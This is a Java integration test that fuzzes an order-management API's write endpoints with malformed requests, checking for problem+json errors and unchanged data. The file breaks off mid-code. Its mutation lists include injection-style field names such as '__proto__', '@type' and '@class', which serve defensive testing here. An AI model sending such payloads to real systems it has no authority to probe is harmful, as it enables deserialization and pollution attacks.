package dev.ordino;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.fail;

import dev.ordino.support.IntegrationTest;
import dev.ordino.support.OrderFixtures;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.net.http.HttpTimeoutException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.UUID;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.ObjectMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;
import tools.jackson.databind.util.RawValue;

/**
 * Hostile input, driven by the served OpenAPI document: every write operation under {@code /api/v1} (POST, PUT,
 * PATCH, DELETE) gets a few dozen requests built from its request schema and then broken: wrong types, nulls,
 * missing and unknown fields, huge and odd Unicode strings, extreme numbers and dates, deep nesting, duplicated
 * keys, malformed JSON, wrong content types and charsets, garbage ids in the path and garbage headers.
 *
 * <p>What must hold for every answer: no 5xx; every error an RFC 9457 {@code application/problem+json} document
 * whose {@code status} is the HTTP status; and a rejected request leaves stored data as it was (the row count of
 * every table, and the resource the request was aimed at, compared after each rejection; every fixture compared
 * at the end of each operation that accepted nothing). All violations are collected and reported at once.
 *
 * <p>Reproducible: the seed is printed and {@code -Dordino.fuzz.seed=<seed>} replays the same mutations.
 * {@code -Dordino.fuzz.requests-per-operation} scales the run (a soak sets it high), and
 * {@code -Dordino.fuzz.operations=<text>} keeps only the operations whose "METHOD path" contains the text.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileInputIntegrationTests extends IntegrationTest {

    private static final long SEED = Long.getLong("ordino.fuzz.seed", 9457L);
    private static final int REQUESTS_PER_OPERATION = Integer.getInteger("ordino.fuzz.requests-per-operation", 40);
    private static final String ONLY = System.getProperty("ordino.fuzz.operations", "");

    /** The body cap ({@code ordino.max-request-bytes}); fuzzed bodies stay below it, one test goes over. */
    private static final int MAX_BODY_BYTES = 1_048_576;

    /**
     * Tomcat's limit on a request's line and headers ({@code server.max-http-request-header-size}, 8 KiB). It
     * answers a longer head with a 400 problem and closes the connection without reading the rest; the unread rest
     * turns the close into a reset, which now and then reaches the client before it has read that answer.
     */
    private static final int MAX_HEAD_BYTES = 8_192;

    /**
     * Tables written by the machinery rather than by requests: jobs, key expiry, migrations, and the e-mail outbox
     * (an invoice's e-mail is rendered and queued after its request committed, and sent or retried later).
     */
    private static final Set<String> BACKGROUND_TABLES = Set.of(
            "scheduled_tasks",
            "idempotency_keys",
            "event_publication",
            "flyway_schema_history",
            "emails",
            "email_attachments");

    /** What a 409 says when a database constraint refused a write (DatabaseFailure): meant for races only. */
    private static final String WRITE_RACE = "The change conflicts with data written at the same time";

    private static final Pattern PATH_PARAMETER = Pattern.compile("\\{(\\w+)}");

    private static final HttpClient HTTP = HttpClient.newBuilder()
            .version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(10))
            .build();

    @LocalServerPort
    private int port;

    @Autowired
    private JdbcClient jdbc;

    @Autowired
    private ObjectMapper json;

    private final JsonNodeFactory nodes = JsonNodeFactory.instance;
    private final String marker = "fz" + UUID.randomUUID().toString().substring(0, 8);
    private OrderFixtures fx;

    private JsonNode schemas;
    private Set<String> readablePaths;
    private List<Operation> operations;
    private List<String> tables;
    private Shared shared;

    private final List<Violation> violations = new ArrayList<>();
    private final Map<Integer, Integer> statuses = new TreeMap<>();
    private int sent;
    private int unsendable;
    private int cutOff;

    // --- what the test is made of --------------------------------------------------------------------------

    /** A write operation of the OpenAPI document, with its request body schema ({@code null}: none). */
    record Operation(String method, String path, JsonNode bodySchema, List<String> mediaTypes) {

        String name() {
            return method + " " + path;
        }

        /** {@code /api/v1/orders/{id}/lines} → {@code orders}. */
        String collection() {
            return path.split("/")[3];
        }

        String lastSegment() {
            return path.substring(path.lastIndexOf('/') + 1);
        }

        List<String> pathParameters() {
            var names = new ArrayList<String>();
            var matcher = PATH_PARAMETER.matcher(path);
            while (matcher.find()) {
                names.add(matcher.group(1));
            }
            return names;
        }
    }

    /** One request as sent; {@code mutation} says what was broken, for the report. */
    record Attempt(String mutation, String method, String path, byte[] body, Map<String, String> headers) {

        String bodyExcerpt() {
            return body == null ? "(no body)" : excerpt(new String(body, StandardCharsets.UTF_8));
        }
    }

    /** One thing the API did wrong. */
    record Violation(String operation, Attempt attempt, String what, int status, String contentType, String response) {

        @Override
        public String toString() {
            return operation + " [" + attempt.mutation() + "]: " + what + "\n      request:  " + attempt.method() + " "
                    + excerpt(attempt.path()) + " " + attempt.headers() + " " + attempt.bodyExcerpt()
                    + "\n      response: " + status + " " + contentType + " " + excerpt(response);
        }
    }

    /** The fixtures every operation may name in its bodies: made once, before any fuzzing. */
    record Shared(
            OrderFixtures.Product product,
            String variantProductId,
            OrderFixtures.Customer customer,
            String channelId,
            String reviewChannelId,
            String billingGroupId,
            String priceListId,
            String orderPromotionId,
            String productPromotionId,
            String couponCode,
            String pricingRuleId,
            String shippingMethodId,
            String taxZoneId,
            String userId,
            String warehouseId) {

        /** What a rejected request must not change, read through the API. */
        List<String> statePaths() {
            return List.of(
                    "/api/v1/products/" + product.id(),
                    "/api/v1/products/" + variantProductId,
                    "/api/v1/customers/" + customer.id(),
                    "/api/v1/channels/" + channelId,
                    "/api/v1/channels/" + reviewChannelId,
                    "/api/v1/billing-groups/" + billingGroupId,
                    "/api/v1/price-lists/" + priceListId,
                    "/api/v1/promotions/" + orderPromotionId,
                    "/api/v1/promotions/" + productPromotionId,
                    "/api/v1/pricing-rules/" + pricingRuleId,
                    "/api/v1/shipping-methods/" + shippingMethodId,
                    "/api/v1/tax-zones/" + taxZoneId,
                    "/api/v1/users/" + userId,
                    "/api/v1/warehouses/" + warehouseId);
        }
    }

    /** What a rejected request must leave alone: row counts per table and resources as read through the API. */
    record Snapshot(Map<String, Long> rows, Map<String, String> resources) {}

    // --- setup ---------------------------------------------------------------------------------------------

    @BeforeAll
    void readTheDocumentAndMakeFixtures() {
        connect();
        fx = new OrderFixtures(api, marker);
        var doc = api.get("/v3/api-docs").expect(200).json();
        schemas = doc.at("/components/schemas");
        operations = writeOperations(doc);
        readablePaths = new HashSet<>();
        doc.at("/paths").properties().forEach(path -> {
            if (path.getValue().has("get")) {
                readablePaths.add(path.getKey());
            }
        });
        tables = jdbc
                .sql("SELECT table_name FROM information_schema.tables WHERE LOWER(table_schema) = 'public'"
                        + " AND table_type IN ('BASE TABLE', 'TABLE')")
                .query(String.class)
                .list()
                .stream()
                .map(name -> name.toLowerCase(Locale.ROOT))
                .filter(name -> !BACKGROUND_TABLES.contains(name))
                .sorted()
                .toList();
        shared = sharedFixtures();
    }

    /** Every POST, PUT, PATCH and DELETE under /api/v1 in the document, in a stable order. */
    private List<Operation> writeOperations(JsonNode doc) {
        var found = new ArrayList<Operation>();
        doc.at("/paths").properties().forEach(entry -> {
            if (!entry.getKey().startsWith("/api/v1/")) {
                return;
            }
            for (var method : List.of("post", "put", "patch", "delete")) {
                var operation = entry.getValue().get(method);
                if (operation == null) {
                    continue;
                }
                var content = operation.at("/requestBody/content");
                JsonNode schema = null;
                var mediaTypes = new ArrayList<String>();
                for (var mediaType : content.propertyNames()) {
                    mediaTypes.add(mediaType);
                    if (schema == null) {
                        schema = content.get(mediaType).get("schema");
                    }
                }
                found.add(new Operation(method.toUpperCase(Locale.ROOT), entry.getKey(), schema, mediaTypes));
            }
        });
        found.sort(Comparator.comparing(Operation::path).thenComparing(Operation::method));
        return found.stream().filter(op -> op.name().contains(ONLY)).toList();
    }

    private Shared sharedFixtures() {
        var product = fx.aProduct("FZ").leadTimeDays(5).create();
        var variantProduct = api.post(
                        "/products",
                        Map.of(
                                "sku",
                                "FZV-" + marker,
                                "name",
                                "Shirt " + marker,
                                "price",
                                OrderFixtures.usd("20.00"),
                                "variants",
                                List.of(Map.of("sku", "FZV-S-" + marker, "name", "Small"))))
                .expect(201)
                .json();
        var customer = newCustomer("shared");
        var orderPromotionId = create("/promotions", promotionBody("ORDER", null));
        var productPromotion = new LinkedHashMap<>(promotionBody("PRODUCT", null));
        productPromotion.put("productIds", List.of(product.id()));
        var couponCode = "FZC" + marker.toUpperCase(Locale.ROOT);
        create("/promotions", promotionBody("ORDER", couponCode));
        return new Shared(
                product,
                variantProduct.at("/id").asString(),
                customer,
                create("/channels", channelBody()),
                fx.aReviewChannel("fzr").create(),
                create("/billing-groups", Map.of("name", "Group " + marker)),
                create("/price-lists", priceListBody(product.sku())),
                orderPromotionId,
                create("/promotions", productPromotion),
                couponCode,
                create("/pricing-rules", Map.of("name", "Rule " + marker, "kind", "PERCENTAGE", "percentage", 5)),
                create("/shipping-methods", shippingMethodBody()),
                create("/tax-zones", taxZoneBody()),
                create("/users", userBody()),
                create("/warehouses", warehouseBody()));
    }

    // Known-good bodies for fixtures. What they make must not change anything for other tests sharing the
    // database: tax zones and shipping methods are for Antarctica, promotions are staff-applied or coupons.

    private Map<String, Object> channelBody() {
        return Map.of("code", code("ch"), "name", "Channel " + marker, "workflow", "DIRECT");
    }

    private Map<String, Object> priceListBody(String sku) {
        return Map.of(
                "code",
                code("pl"),
                "name",
                "List " + marker,
                "currency",
                "USD",
                "entries",
                List.of(Map.of("sku", sku, "price", OrderFixtures.usd("9.00"))));
    }

    private Map<String, Object> promotionBody(String scope, String couponCode) {
        var body = new LinkedHashMap<String, Object>();
        body.put("name", "Promotion " + marker);
        body.put("scope", scope);
        body.put("kind", "PERCENTAGE");
        body.put("percentage", 5);
        if (couponCode != null) {
            body.put("couponCode", couponCode);
        }
        return body;
    }

    private Map<String, Object> shippingMethodBody() {
        return Map.of(
                "code",
                code("sm"),
                "name",
                "Sled " + marker,
                "basis",
                "WEIGHT",
                "currency",
                "USD",
                "countries",
                List.of("AQ"),
                "rates",
                List.of(Map.of("from", 0, "price", OrderFixtures.usd("5.00"))));
    }

    private Map<String, Object> taxZoneBody() {
        return Map.of(
                "name",
                "Antarctica " + marker,
                "country",
                "AQ",
                "region",
                code("region"),
                "rates",
                List.of(Map.of("taxClass", "standard", "name", "VAT", "percentage", 5)));
    }

    private Map<String, Object> warehouseBody() {
        return Map.of(
                "code",
                code("wh"),
                "name",
                "Warehouse " + marker,
                "address",
                Map.of("line1", "1 Depot Rd", "city", "Austin", "postalCode", "73301", "country", "US"));
    }

    private Map<String, Object> userBody() {
        return Map.of(
                "email",
                code("user") + "@example.com",
                "name",
                "Fuzz " + marker,
                "role",
                "CLERK",
                "password",
                "fuzz-password-" + marker);
    }

    private OrderFixtures.Customer newCustomer(String prefix) {
        return fx.aBusinessCustomer(prefix + "-" + code("c"))
                .withAddress(OrderFixtures.address("Plant", "1 Loop Rd", "Austin", "73301"))
                .create();
    }

    private String create(String path, Map<String, ?> body) {
        return api.post(path, body).expect(201).at("/id");
    }

    private int codes;

    /** A code, SKU or number unique to this run that matches every pattern of the document. */
    private String code(String prefix) {
        return prefix + "-" + marker + "-" + (++codes);
    }

    // --- the tests -----------------------------------------------------------------------------------------

    @Test
    void everyWriteOperationAnswersHostileInputWithProblemsAndChangesNothingWhenItRefuses() {
        assertThat(operations).as("write operations in /v3/api-docs").isNotEmpty();
        System.out.printf(
                "Hostile input: seed %d (-Dordino.fuzz.seed), %d requests per operation, %d operations%n",
                SEED, REQUESTS_PER_OPERATION, operations.size());
        var started = System.nanoTime();
        for (var operation : operations) {
            fuzz(operation);
        }
        var seconds = (System.nanoTime() - started) / 1_000_000_000;
        System.out.printf(
                "Hostile input: %d requests in %d s (%d the HTTP client would not send, %d with a head over %d bytes"
                        + " reset before their 400 was read), by status %s, %d violations%n",
                sent, seconds, unsendable, cutOff, MAX_HEAD_BYTES, statuses, violations.size());

        if (!violations.isEmpty()) {
            var report = new StringBuilder()
                    .append(violations.size())
                    .append(" violations (seed ")
                    .append(SEED)
                    .append("):\n");
            violations.stream()
                    .limit(60)
                    .forEach(v -> report.append("  - ").append(v).append('\n'));
            if (violations.size() > 60) {
                report.append("  ... and ").append(violations.size() - 60).append(" more\n");
            }
            fail(report.toString());
        }
    }

    /** Every list's page size is capped: too large, zero or negative is a validation problem naming ?limit. */
    @ParameterizedTest(name = "GET {0}?limit={1}")
    @MethodSource("pageSizesBeyondTheCap")
    void aPageSizeBeyondTheCapIsAProblem(String path, String limit) {
        var response = api.get(path + "?limit=" + limit);

        assertThat(response.status()).as("%s", response).isEqualTo(422);
        assertThat(response.header("Content-Type")).startsWith("application/problem+json");
        assertThat(response.json().at("/status").asInt()).isEqualTo(422);
        assertThat(response.json().at("/errors/0/pointer").asString()).isEqualTo("?limit");
    }

    Stream<Arguments> pageSizesBeyondTheCap() {
        var doc = api.get("/v3/api-docs").expect(200).json();
        var lists = new ArrayList<String>();
        doc.at("/paths").properties().forEach(path -> {
            var get = path.getValue().get("get");
            if (get != null && !path.getKey().contains("{")) {
                for (var parameter : get.path("parameters")) {
                    if (parameter.path("name").asString().equals("limit")) {
                        lists.add(path.getKey());
                    }
                }
            }
        });
        assertThat(lists).as("lists with a limit parameter").isNotEmpty();
        return lists.stream()
                .flatMap(path -> Stream.of("201", "100000", "-1", "0", "99999999999999999999")
                        .map(limit -> Arguments.of(path, limit)));
    }

    @Test
    void aBodyOverTheCapIsRefusedWith413AndStoresNothing() {
        var before = rowCounts();
        var body = "{\"notes\": \"" + "x".repeat(MAX_BODY_BYTES) + "\"}";

        var response = api.post("/orders", body);

        assertThat(response.status()).isEqualTo(413);
        assertThat(response.header("Content-Type")).startsWith("application/problem+json");
        assertThat(response.json().at("/status").asInt()).isEqualTo(413);
        assertThat(rowCounts()).isEqualTo(before);
    }

    // --- one operation -------------------------------------------------------------------------------------

    /**
     * Sends the operation's requests: first a plausible body, then mutations. Its path ids are fresh resources
     * made for it alone, so that a DELETE or an action that succeeds cannot starve the operations after it.
     */
    private void fuzz(Operation operation) {
        var random = new Random(SEED * 31 + operation.name().hashCode());
        var targets = targetsFor(operation);
        var fuzz = new OperationFuzz(operation, random, targets);
        var statePaths = new ArrayList<>(shared.statePaths());
        var aimedAt = aimedAt(operation, targets);
        if (aimedAt != null && !statePaths.contains(aimedAt)) {
            statePaths.add(aimedAt);
        }
        var baseline = snapshot(statePaths);
        var current = baseline;
        var accepted = 0;
        var refused = 0;
        for (var i = 0; i < REQUESTS_PER_OPERATION; i++) {
            var attempt = i == 0 ? fuzz.plausible() : fuzz.next();
            var response = send(operation, attempt);
            if (response == null) {
                continue;
            }
            if (response.statusCode() < 400) {
                // A request that was taken may change anything; what it left is what the next rejection must keep.
                accepted++;
                current = new Snapshot(rowCounts(), readAll(aimedAt == null ? List.of() : List.of(aimedAt)));
                continue;
            }
            refused++;
            var after = new Snapshot(rowCounts(), readAll(aimedAt == null ? List.of() : List.of(aimedAt)));
            var change = difference(current, after);
            if (change != null) {
                violations.add(
                        violation(operation, attempt, "a rejected request changed stored data: " + change, response));
                current = after;
            }
        }
        if (accepted == 0) {
            // Nothing was taken, so every fixture must read as before, not only the one the requests aimed at.
            var change = difference(baseline, snapshot(statePaths));
            if (change != null) {
                violations.add(new Violation(
                        operation.name(),
                        new Attempt("all of them", operation.method(), operation.path(), null, Map.of()),
                        "rejected requests changed stored data: " + change,
                        0,
                        "",
                        ""));
            }
        }
        System.out.printf("  %-60s %3d accepted, %3d refused%n", operation.name(), accepted, refused);
    }

    /** The resource an operation's path points into, as its GET path, or {@code null} for a collection. */
    private String aimedAt(Operation operation, Map<String, String> targets) {
        if (!targets.containsKey("id")) {
            return null;
        }
        var template = "/api/v1/" + operation.collection() + "/{id}";
        return readablePaths.contains(template) ? template.replace("{id}", targets.get("id")) : null;
    }

    // --- fresh path targets --------------------------------------------------------------------------------

    /** Real ids for the operation's path parameters. */
    private Map<String, String> targetsFor(Operation operation) {
        var ids = new LinkedHashMap<String, String>();
        var parameters = operation.pathParameters();
        if (parameters.isEmpty()) {
            return ids;
        }
        switch (operation.collection()) {
            case "orders" -> orderTargets(operation, ids);
            case "customers" -> {
                var customer = newCustomer("t");
                ids.put("id", customer.id());
                ids.put("addressId", customer.addressId());
            }
            case "products" -> ids.put("id", fx.aProduct(code("T")).create().id());
            case "channels" -> ids.put("id", create("/channels", channelBody()));
            case "users" -> ids.put("id", create("/users", userBody()));
            case "warehouses" -> ids.put("id", create("/warehouses", warehouseBody()));
            case "warehouse-groups" ->
                ids.put(
                        "id",
                        create(
                                "/warehouse-groups",
                                Map.of(
                                        "code",
                                        code("wg"),
                                        "name",
                                        "Group " + marker,
                                        "warehouseIds",
                                        List.of(shared.warehouseId()))));
            case "shipments" -> ids.put("id", shipmentFor(operation.lastSegment()));
            case "tokens" ->
                ids.put("id", create("/tokens", Map.of("name", "Token " + marker, "scopes", List.of("orders:read"))));
            case "tax-zones" -> ids.put("id", create("/tax-zones", taxZoneBody()));
            case "shipping-methods" -> ids.put("id", create("/shipping-methods", shippingMethodBody()));
            case "promotions" -> ids.put("id", create("/promotions", promotionBody("ORDER", null)));
            case "pricing-rules" ->
                ids.put(
                        "id",
                        create(
                                "/pricing-rules",
                                Map.of("name", "Rule " + marker, "kind", "PERCENTAGE", "percentage", 5)));
            case "price-lists" ->
                ids.put(
                        "id",
                        create("/price-lists", priceListBody(shared.product().sku())));
            case "billing-groups" -> ids.put("id", create("/billing-groups", Map.of("name", "Group " + marker)));
            default -> {}
        }
        for (var parameter : parameters) {
            ids.putIfAbsent(parameter, UUID.randomUUID().toString());
        }
        return ids;
    }

    /** An order in the status the action expects (so that its body is read), with the parts the path names. */
    private void orderTargets(Operation operation, Map<String, String> ids) {
        var customer = newCustomer("o");
        var product = shared.product().id();
        var action = operation.lastSegment();
        String orderId;
        switch (action) {
            case "submit" ->
                orderId = fx.aCompleteDraft(customer, product, 2, shared.reviewChannelId())
                        .create();
            case "retract", "accept", "reject" ->
                orderId = fx.aCompleteDraft(customer, product, 2, shared.reviewChannelId())
                        .submitted();
            case "confirm", "hold", "cancel", "revert-to-draft", "shipments" ->
                orderId = fx.aCompleteDraft(customer, product, 2, null).placed();
            case "release-hold" -> {
                orderId = fx.aCompleteDraft(customer, product, 2, null).placed();
                fx.hold(orderId, "fuzz");
            }
            default -> orderId = null;
        }
        if (orderId == null) {
            var order = fx.aCompleteDraft(customer, product, 2, null).createJson();
            orderId = order.at("/id").asString();
            ids.put("lineId", order.at("/lines/0/id").asString());
        } else {
            ids.put("lineId", api.get("/orders/" + orderId).expect(200).at("/lines/0/id"));
        }
        ids.put("id", orderId);
        var path = operation.path();
        if (path.contains("{costId}")) {
            ids.put("costId", create("/orders/" + orderId + "/other-costs", Map.of("description", "Crate")));
        }
        if (path.contains("{adjustmentId}")) {
            ids.put(
                    "adjustmentId",
                    create(
                            "/orders/" + orderId + "/adjustments",
                            Map.of("kind", "CREDIT", "amount", OrderFixtures.usd("1.00"), "reason", "Goodwill")));
        }
        if (path.contains("/coupons/{discountId}")) {
            ids.put("discountId", create("/orders/" + orderId + "/coupons", Map.of("code", shared.couponCode())));
        }
        if (path.contains("/promotions/{discountId}")) {
            ids.put(
                    "discountId",
                    create("/orders/" + orderId + "/promotions", Map.of("promotionId", shared.orderPromotionId())));
        }
        if (path.contains("{promotionId}")) {
            // The product's promotion is on the line already, or is put there now.
            api.post(
                    "/orders/" + orderId + "/lines/" + ids.get("lineId") + "/promotions",
                    Map.of("promotionId", shared.productPromotionId()));
            ids.put("promotionId", shared.productPromotionId());
        }
    }

    /**
     * A shipment of a new placed and paid order (of the shared product, which tracks no inventory, so it is
     * assigned at once), taken to the status the action expects.
     */
    private String shipmentFor(String action) {
        var orderId = fx.aCompleteDraft(newCustomer("s"), shared.product().id(), 2, null)
                .placed();
        api.post("/orders/" + orderId + "/payments", Map.of("method", "MANUAL", "reference", "fuzz"))
                .expect(201);
        var shipmentId =
                api.get("/orders/" + orderId + "/shipments").expect(200).at("/items/0/id");
        if (List.of("pack", "ship", "deliver").contains(action)) {
            api.post("/shipments/" + shipmentId + "/release", Map.of()).expect(200);
        }
        if (action.equals("deliver")) {
            api.post("/shipments/" + shipmentId + "/ship", Map.of()).expect(200);
        }
        return shipmentId;
    }

    // --- the fuzzer ----------------------------------------------------------------------------------------

    /** Builds the requests of one operation from its schema; all its choices come from one seeded Random. */
    private final class OperationFuzz {

        private final Operation operation;
        private final Random random;
        private final Map<String, String> targets;
        private int serial;
        private String releasedShipment;

        OperationFuzz(Operation operation, Random random, Map<String, String> targets) {
            this.operation = operation;
            this.random = random;
            this.targets = targets;
            if (operation.path().startsWith("/api/v1/picklists")) {
                this.releasedShipment = shipmentFor("pack");
            }
        }

        /** The schema's required fields and the ones a fixture can fill: the request most likely to be taken. */
        Attempt plausible() {
            return attempt("plausible body", body(false), jsonHeaders());
        }

        Attempt next() {
            var roll = random.nextInt(100);
            if (roll < 8) {
                return attempt("plausible body with random optional fields", body(true), jsonHeaders());
            }
            if (roll < 45) {
                return brokenFields();
            }
            if (roll < 53) {
                return unknownFields();
            }
            if (roll < 68) {
                return brokenSyntax();
            }
            if (roll < 80) {
                return wrongMediaType();
            }
            if (roll < 90 && !targets.isEmpty()) {
                return garbagePath();
            }
            return garbageHeaders();
        }

        // --- plausible bodies ------------------------------------------------------------------------------

        /**
         * A released shipment for a picklist, made with the fuzz (before the stored data is first read) for the
         * operations that make picklists; the others get an unknown id.
         */
        private String releasedShipment() {
            return releasedShipment == null ? UUID.randomUUID().toString() : releasedShipment;
        }

        /** A body built from the schema, or an empty object when the operation declares none. */
        JsonNode body(boolean randomOptionalFields) {
            if (operation.bodySchema() == null) {
                return nodes.objectNode();
            }
            return value(operation.bodySchema(), "", 0, randomOptionalFields);
        }

        private JsonNode value(JsonNode reference, String field, int depth, boolean randomOptionalFields) {
            var schema = resolve(reference);
            var hinted = hint(field);
            if (hinted != null) {
                return hinted;
            }
            if (schema.has("enum")) {
                var values = schema.get("enum");
                return values.get(random.nextInt(values.size()));
            }
            var example = schema.get("example");
            if (example != null && !example.isContainer()) {
                return example;
            }
            var type = schema.path("type").asString(schema.has("properties") ? "object" : "");
            switch (type) {
                case "object" -> {
                    var object = nodes.objectNode();
                    if (depth > 5) {
                        return object;
                    }
                    var required = new HashSet<String>();
                    schema.path("required").forEach(name -> required.add(name.asString()));
                    for (var property : schema.path("properties").properties()) {
                        var name = property.getKey();
                        // Hinted fields always go in: some keep what a request creates out of other tests' way.
                        var wanted = required.contains(name)
                                || hint(name) != null
                                || (randomOptionalFields && random.nextInt(3) > 0);
                        if (wanted) {
                            object.set(name, value(property.getValue(), name, depth + 1, randomOptionalFields));
                        }
                    }
                    return object;
                }
                case "array" -> {
                    var array = nodes.arrayNode();
                    var count = Math.max(1, schema.path("minItems").asInt(0));
                    for (var i = 0; i < count; i++) {
                        array.add(value(schema.path("items"), field, depth + 1, randomOptionalFields));
                    }
                    return array;
                }
                case "integer", "number" -> {
                    var low = schema.path("minimum").asLong(1);
                    var high = schema.path("maximum").asLong(Long.MAX_VALUE);
                    return nodes.numberNode(Math.min(Math.max(1, low), high));
                }
                case "boolean" -> {
                    return nodes.booleanNode(false);
                }
                case "string" -> {
                    return nodes.stringNode(text(schema));
                }
                default -> {
                    return nodes.stringNode("fuzz");
                }
            }
        }

        private String text(JsonNode schema) {
            var value = switch (schema.path("format").asString("")) {
                case "uuid" -> new UUID(random.nextLong(), random.nextLong()).toString();
                case "date" -> "2030-01-10";
                case "date-time" -> "2030-01-10T10:00:00Z";
                case "email" -> code("e") + "@example.com";
                default -> schema.has("pattern") ? code("x") : "Fuzz " + marker + " " + (++serial);
            };
            var max = schema.path("maxLength").asInt(Integer.MAX_VALUE);
            if (value.length() > max && max > 0) {
                value = value.substring(0, max);
            }
            var min = schema.path("minLength").asInt(0);
            return value.length() < min ? value + "x".repeat(min - value.length()) : value;
        }

        /**
         * Values a schema cannot tell: ids of real fixtures, codes that must be unique, and settings chosen so that
         * whatever a fuzzed request creates stays out of every other test's way (Antarctica, inactive, far future).
         */
        private JsonNode hint(String field) {
            var path = operation.path();
            var faraway = path.startsWith("/api/v1/tax-zones") || path.startsWith("/api/v1/shipping-methods");
            return switch (field) {
                case "productId" -> nodes.stringNode(shared.product().id());
                case "productIds" -> nodes.arrayNode().add(shared.product().id());
                case "customerId" -> nodes.stringNode(shared.customer().id());
                case "channelId" -> nodes.stringNode(shared.channelId());
                case "addressId", "locationId" ->
                    nodes.stringNode(shared.customer().addressId());
                case "billingGroupId" -> nodes.stringNode(shared.billingGroupId());
                case "priceListId" -> nodes.stringNode(shared.priceListId());
                case "methodId" -> nodes.stringNode(shared.shippingMethodId());
                case "ruleId" -> nodes.stringNode(shared.pricingRuleId());
                case "userId" -> nodes.stringNode(shared.userId());
                case "warehouseId" -> nodes.stringNode(shared.warehouseId());
                case "warehouseIds" -> nodes.arrayNode().add(shared.warehouseId());
                case "shipmentIds" -> nodes.arrayNode().add(releasedShipment());
                case "lineId" -> targets.containsKey("lineId") ? nodes.stringNode(targets.get("lineId")) : null;
                case "promotionId" ->
                    nodes.stringNode(
                            path.contains("/lines/") ? shared.productPromotionId() : shared.orderPromotionId());
                case "ids" ->
                    nodes.arrayNode()
                            .add(targets.getOrDefault("id", UUID.randomUUID().toString()));
                case "sku" ->
                    path.startsWith("/api/v1/products")
                            ? nodes.stringNode(code("SKU"))
                            : path.startsWith("/api/v1/price-lists") || path.startsWith("/api/v1/inventory")
                                    ? nodes.stringNode(shared.product().sku())
                                    : null;
                case "code" -> nodes.stringNode(path.endsWith("/coupons") ? shared.couponCode() : code("code"));
                case "couponCode", "number" -> nodes.stringNode(code("N"));
                case "email", "to" -> nodes.stringNode(code("e") + "@example.com");
                case "currency" -> nodes.stringNode("USD");
                case "country" -> nodes.stringNode(faraway ? "AQ" : "US");
                case "countries" -> nodes.arrayNode().add("AQ");
                case "region" -> faraway ? nodes.stringNode(code("region")) : null;
                case "scopes" -> nodes.arrayNode().add("orders:read");
                case "password" -> nodes.stringNode("fuzz-password-" + marker);
                case "termsVersion" -> nodes.stringNode(OrderFixtures.TERMS_VERSION);
                case "acceptTerms", "purchasable" -> nodes.booleanNode(true);
                case "active" -> nodes.booleanNode(false);
                case "scope" -> nodes.stringNode("PRODUCT");
                case "startsAt", "expiresAt" -> nodes.stringNode("2099-01-01T00:00:00Z");
                case "endsAt" -> nodes.stringNode("2099-12-31T00:00:00Z");
                case "format" -> nodes.stringNode("json");
                case "content" -> nodes.stringNode("{\"fuzz\": true}");
                case "mode" -> nodes.stringNode("STANDARD");
                case "quantity" -> nodes.numberNode(1);
                case "months", "contractMonths" -> nodes.numberNode(12);
                case "percentage" -> nodes.numberNode(5);
                default -> null;
            };
        }

        // --- mutations -------------------------------------------------------------------------------------

        /** One to three fields (anywhere in the tree) given a hostile value, set to null or removed. */
        Attempt brokenFields() {
            var body = body(random.nextBoolean());
            var count = random.nextInt(10) < 8 ? 1 : 2 + random.nextInt(2);
            var what = new ArrayList<String>();
            for (var i = 0; i < count; i++) {
                var slots = slots(body, "");
                if (slots.isEmpty()) {
                    return unknownFields();
                }
                var slot = slots.get(random.nextInt(slots.size()));
                var kind = random.nextInt(10);
                if (kind == 0) {
                    slot.remove();
                    what.add("removed " + slot.pointer());
                } else if (kind == 1) {
                    slot.replace(nodes.nullNode());
                    what.add("null at " + slot.pointer());
                } else {
                    var hostile = hostileValueInstead(slot.value());
                    slot.replace(hostile.node());
                    what.add(hostile.name() + " at " + slot.pointer());
                }
            }
            return attempt(String.join(", ", what), body, jsonHeaders());
        }

        /** Fields no schema has, at the top or inside: unknown, read-only, prototype-polluting, huge or odd names. */
        Attempt unknownFields() {
            var body = body(random.nextBoolean());
            var objects = new ArrayList<ObjectNode>();
            collectObjects(body, objects);
            var target = objects.isEmpty() ? null : objects.get(random.nextInt(objects.size()));
            if (target == null) {
                target = nodes.objectNode();
                body = target;
            }
            var names = List.of(
                    "zzUnknown",
                    "id",
                    "status",
                    "version",
                    "totals",
                    "createdAt",
                    "unitPrice",
                    "__proto__",
                    "constructor",
                    "@type",
                    "@class",
                    "",
                    " ",
                    "💥",
                    "\u0000",
                    "a".repeat(10_000));
            var name = names.get(random.nextInt(names.size()));
            var hostile = hostileValue();
            target.set(name, hostile.node());
            return attempt("unknown field '" + excerpt(name) + "' = " + hostile.name(), body, jsonHeaders());
        }

        /** Bodies that are not one well-formed JSON object. */
        Attempt brokenSyntax() {
            var valid = serialize(body(false));
            var choice = random.nextInt(22);
            return switch (choice) {
                case 0 -> raw("truncated", valid.substring(0, Math.max(1, random.nextInt(valid.length()))));
                case 1 -> raw("trailing comma", valid.replaceFirst("}$", ",}"));
                case 2 ->
                    raw(
                            "trailing garbage",
                            valid
                                    + List.of(" x", "}", "{}", "]", "\u0000", " //")
                                            .get(random.nextInt(6)));
                case 3 -> raw("single quotes", valid.replace('"', '\''));
                case 4 -> raw("a comment", "/* hi */ " + valid);
                case 5 -> raw("a byte order mark", "\uFEFF" + valid);
                case 6 -> raw("empty body", "");
                case 7 -> raw("whitespace only", " \n\t ");
                case 8 ->
                    raw(
                            "a JSON scalar",
